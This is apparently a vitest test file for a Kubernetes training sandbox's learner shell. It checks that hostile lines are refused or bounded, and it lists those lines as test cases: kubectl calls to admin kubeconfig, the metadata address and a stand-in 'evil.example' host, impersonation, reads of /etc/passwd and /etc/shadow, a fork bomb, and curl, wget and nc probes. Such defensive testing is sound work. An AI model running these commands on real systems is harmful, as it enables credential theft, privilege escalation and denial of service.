/**
 * Hostile input to the workstation shell (lib/workstation): what a learner types runs in the
 * sandbox's interpreter, in memory, with budgets; kubectl goes through the terminal's
 * allowlist before anything starts. Each case checks the refusal or bound AND that the same
 * workstation still answers afterwards.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { KubectlRun } from '@/lib/workstation/commands';
import { HOME_LIMIT_BYTES, MemoryHomeStore, sanitizeHome } from '@/lib/workstation/home-store';
import { WorkstationRegistry, WorkstationsFullError } from '@/lib/workstation/registry';
import { MAX_PENDING_BYTES, Workstation, type WorkstationBinding } from '@/lib/workstation/workstation';
import { createClusterNetwork } from '@/lib/k8s/sandbox/network/cluster-network';

const started: string[][] = [];
/** The refusals below must happen before kubectl would start: this runner records any start. */
const recordingKubectl: KubectlRun = async (cmd, io) => {
  started.push(cmd.args);
  io.onOutput('NAME   READY\nweb    1/1\n');
  return 0;
};
const binding = (): WorkstationBinding => ({ kubectl: recordingKubectl, resolveForward: async () => ({ error: 'pods "x" not found' }) });

const open: Workstation[] = [];
afterEach(() => {
  for (const w of open.splice(0)) w.close();
  started.length = 0;
});

function workstation(home = new MemoryHomeStore(), b = binding()): Workstation {
  const ws = new Workstation(`hostile-${open.length}-${Math.random()}`, home, b);
  open.push(ws);
  return ws;
}

async function line(ws: Workstation, text: string, opts: { abortAfterOutput?: boolean; abortNow?: boolean } = {}) {
  let out = '';
  const refused: string[] = [];
  const ac = new AbortController();
  if (opts.abortNow) setTimeout(() => ac.abort(), 20);
  const r = await ws.runLine(text, {
    onOutput: (c) => {
      out += c;
      if (opts.abortAfterOutput) ac.abort();
    },
    onRefused: (m) => refused.push(m),
    signal: ac.signal,
  });
  return { ...r, out, refused };
}

async function stillWorks(ws: Workstation): Promise<void> {
  expect((await line(ws, 'echo alive | tr a-z A-Z')).out).toBe('ALIVE\n');
}

describe('hostile lines in the workstation shell', () => {
  const refusedKubectl: [string, RegExp][] = [
    ['kubectl get pods --kubeconfig=/etc/kubernetes/admin.conf | cat', /--kubeconfig is refused/],
    ['kubectl get pods --server=http://169.254.169.254', /--server|-s/],
    ['kubectl -s http://evil.example get pods', /-s|--server/],
    ['kubectl proxy --port=18999 &', /proxy/],
    ['kubectl -n get proxy', /proxy/],
    ['kubectl cp web:/etc/passwd ./passwd', /cp/],
    ['kubectl config view --raw', /config/],
    ['kubectl get pods -o go-template-file=/etc/passwd', /go-template-file|output/],
    ['kubectl get pods -ogo-template-file=/etc/passwd', /go-template-file|output/],
    ['kubectl get pods --profile=cpu --profile_output=/tmp/x', /profile/],
    ['kubectl create configmap leak --from-file=../../instructor-token', /from[-_]file/],
    ['kubectl apply -f /etc/passwd', /-f|library/],
    ['kubectl apply -f -', /only "editor"|stdin/],
    ['kubectl plugin list', /plugin/],
    ['kubectl kustomize .', /kustomize/],
    ['kubectl debug node/worker-1 -it --image=busybox', /debug/],
    ['kubectl edit deploy web', /edit/],
    ["kubectl get pods \u2013-kubeconfig=/x", /dash|hyphen/],
    ['kubectl get "$(printf \'pods\\nx\')"', /newline|invisible/],
    ['K=kubectl; $K get pods --token=abc', /--token|token/],
    ['eval "kubectl get pods --as=system:admin"', /impersonation|--as/],
  ];
  for (const [text, names] of refusedKubectl) {
    it(`refuses ${JSON.stringify(text)} before kubectl starts, and keeps the shell`, async () => {
      const ws = workstation();
      const r = await line(ws, text);
      expect(r.refused.join('\n')).toMatch(names);
      expect(started).toEqual([]);
      expect(r.kubectlRan).toBe(false);
      await stillWorks(ws);
    });
  }

  it('reads none of the server\'s files: /etc/passwd and paths climbing out are not there', async () => {
    const ws = workstation();
    const r = await line(ws, 'cat /etc/passwd ../../../../etc/shadow ~/../../proc/self/environ 2>&1; ls /');
    expect(r.out).not.toMatch(/root:x:0|PATH=|KUBELAB/);
    expect(r.out).toMatch(/No such file|can't open/);
    await stillWorks(ws);
  });

  it('ends a fork bomb at the process budget', async () => {
    const ws = workstation();
    const r = await line(ws, 'b() { b | b & }; b', { abortNow: true });
    expect(r.status === undefined || r.stopped !== undefined || /process|limit|budget/i.test(r.out)).toBe(true);
    await stillWorks(ws);
  });

  it('stops an endless loop on Ctrl+C', async () => {
    const ws = workstation();
    const r = await line(ws, 'while true; do :; done', { abortNow: true });
    expect(r.stopped).toBe('cancelled');
    await stillWorks(ws);
  });

  it('replaces a shell whose command ignores Ctrl+C', async () => {
    const ws = workstation();
    const r = await line(ws, "trap '' INT; while true; do sleep 1; done", { abortNow: true });
    expect(r.stopped).toBe('cancelled');
    expect(r.out).toMatch(/did not stop on Ctrl\+C|replaced/);
    await stillWorks(ws);
  }, 15_000);

  it('bounds the output of one line and starts a new shell after it', async () => {
    const ws = workstation();
    const r = await line(ws, 'while true; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done');
    expect(r.out.length).toBeLessThan(5 * 1024 * 1024);
    expect(r.out).toMatch(/output budget/);
    await stillWorks(ws);
  }, 60_000);

  it('bounds the files a learner writes to the home directory size', async () => {
    const ws = workstation();
    const r = await line(ws, 'x=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; x=$x$x$x$x$x$x$x$x; x=$x$x$x$x$x$x$x$x; while true; do echo $x >> big || break; done; echo done');
    expect(r.out).toMatch(/No space|ENOSPC|budget|done/);
    expect(ws.vfs.usedBytes()).toBeLessThanOrEqual(HOME_LIMIT_BYTES + 64 * 1024);
    await stillWorks(ws);
  }, 60_000);

  it('ends unbounded recursion at a budget', async () => {
    const ws = workstation();
    const r = await line(ws, 'f() { f; }; f', { abortNow: true });
    expect(r.status === 0).toBe(false);
    await stillWorks(ws);
  });

  it('drops a line larger than the pending limit and forgets it', async () => {
    const ws = workstation();
    const r = await line(ws, `echo ${'a'.repeat(MAX_PENDING_BYTES + 10)}`);
    expect(r.out).toMatch(/longer than 64 KiB/);
    await stillWorks(ws);
  });

  it('bounds a compound command that never closes', async () => {
    const ws = workstation();
    expect((await line(ws, 'while true; do')).more).toBe(true);
    let out = '';
    for (let i = 0; i < 3; i++) out += (await line(ws, `echo ${'b'.repeat(30_000)}`)).out;
    expect(out).toMatch(/longer than 64 KiB; it was dropped/);
    await stillWorks(ws);
  });

  it('does not answer a guessed end-of-line marker', async () => {
    const ws = workstation();
    const r = await line(ws, '__kubelab_done 0000 1 0; echo after');
    expect(r.out).toMatch(/not found/);
    expect(r.out).toMatch(/after/);
    await stillWorks(ws);
  });

  it('reaches nothing on the server\'s network: metadata addresses and the portal\'s own port are unreachable', async () => {
    const ws = workstation();
    const r = await line(ws, 'curl -s -m 2 http://169.254.169.254/latest/meta-data/; echo "a=$?"; curl -s http://127.0.0.1:3000/; echo "b=$?"; wget -q -O- http://localhost:3100/ ; echo "c=$?"');
    expect(r.out).toMatch(/a=[1-9]/);
    expect(r.out).toMatch(/b=7/);
    expect(r.out).toMatch(/c=[1-9]/);
    await stillWorks(ws);
  });

  it('resolves no outside names', async () => {
    const ws = workstation();
    const r = await line(ws, 'nslookup example.com 2>&1; echo "s=$?"');
    expect(r.out).toMatch(/NXDOMAIN|can't find|not find|s=1/);
    await stillWorks(ws);
  });

  it('refuses a port-forward listening beyond localhost, a bad port, and a port already forwarded', async () => {
    const ws = workstation();
    expect((await line(ws, 'kubectl port-forward --address 0.0.0.0 pod/web 8080:80')).out).toMatch(/--address 0.0.0.0 is refused/);
    expect((await line(ws, 'kubectl port-forward pod/web 99999:80')).out).toMatch(/invalid port/);
    expect((await line(ws, 'kubectl port-forward pod/missing 8080:80')).out).toMatch(/not found/);
    await stillWorks(ws);
  });

  it('cannot listen for connections from anywhere (nc -l has no network to listen on)', async () => {
    const ws = workstation();
    await line(ws, 'nc -l -p 8081 &');
    const r = await line(ws, 'echo hi | nc -w 1 127.0.0.1 8081; echo "s=$?"');
    expect(r.out).toMatch(/s=1|refused/);
    await stillWorks(ws);
  });
});

describe('hostile homes and many learners', () => {
  it('loads only plain relative paths from a stored home', () => {
    const home = sanitizeHome({ 'ok.txt': 'a', '../escape': 'x', 'a/../../b': 'x', '/abs': 'x', 'n.txt': 5, 'sub/dir/f': 'y' });
    expect(Object.keys(home).sort()).toEqual(['ok.txt', 'sub/dir/f']);
    expect(sanitizeHome('not an object')).toEqual({});
    expect(sanitizeHome(['a'])).toEqual({});
  });

  it('loads at most the home size limit from a stored home', () => {
    const big = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`f${i}`, 'x'.repeat(HOME_LIMIT_BYTES / 4)]));
    const bytes = Object.values(sanitizeHome(big)).reduce((n, s) => n + s.length, 0);
    expect(bytes).toBeLessThanOrEqual(HOME_LIMIT_BYTES);
  });

  it('refuses a new workstation when every open one is running a command, and serves again once one is free', async () => {
    const reg = new WorkstationRegistry(new MemoryHomeStore(), 2);
    const a = reg.get('a', binding());
    const b = reg.get('b', binding());
    const ac = new AbortController();
    const ra = a.runLine('sleep 30', { onOutput: () => undefined, signal: ac.signal });
    const rb = b.runLine('sleep 30', { onOutput: () => undefined, signal: ac.signal });
    expect(() => reg.get('c', binding())).toThrow(WorkstationsFullError);
    ac.abort();
    await Promise.all([ra, rb]);
    const c = reg.get('c', binding());
    expect((await line(c, 'echo ok')).out).toBe('ok\n');
    expect(reg.size).toBe(2);
    reg.closeAll();
  });

  it('gives each learner a separate home: one learner\'s files are not another\'s', async () => {
    const home = new MemoryHomeStore();
    const a = workstation(home);
    const b = workstation(home);
    await line(a, 'echo secret-of-a > note');
    expect((await line(b, 'cat note 2>&1; ls')).out).not.toContain('secret-of-a');
  });

  it('keeps a cluster network it was not given out of reach (a workstation without a cluster resolves nothing)', async () => {
    const ws = workstation(new MemoryHomeStore(), { ...binding(), net: undefined });
    expect((await line(ws, 'curl -s http://web.default.svc.cluster.local/; echo "s=$?"')).out).toMatch(/s=[1-9]/);
    expect(typeof createClusterNetwork).toBe('function');
  });
});
